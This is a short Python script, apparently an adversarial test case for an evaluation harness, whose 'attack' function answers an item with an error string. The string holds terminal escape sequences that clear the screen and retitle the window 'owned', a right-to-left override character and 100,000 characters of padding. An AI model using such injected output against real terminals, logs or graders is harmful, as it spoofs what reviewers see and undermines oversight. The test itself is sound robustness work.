from attack import answer, run


def attack(item):
    answer(item, error="\x1b[2J\x1b]0;owned\x07\r\u202e\u009b31m" + "x" * 100_000)


run(attack)
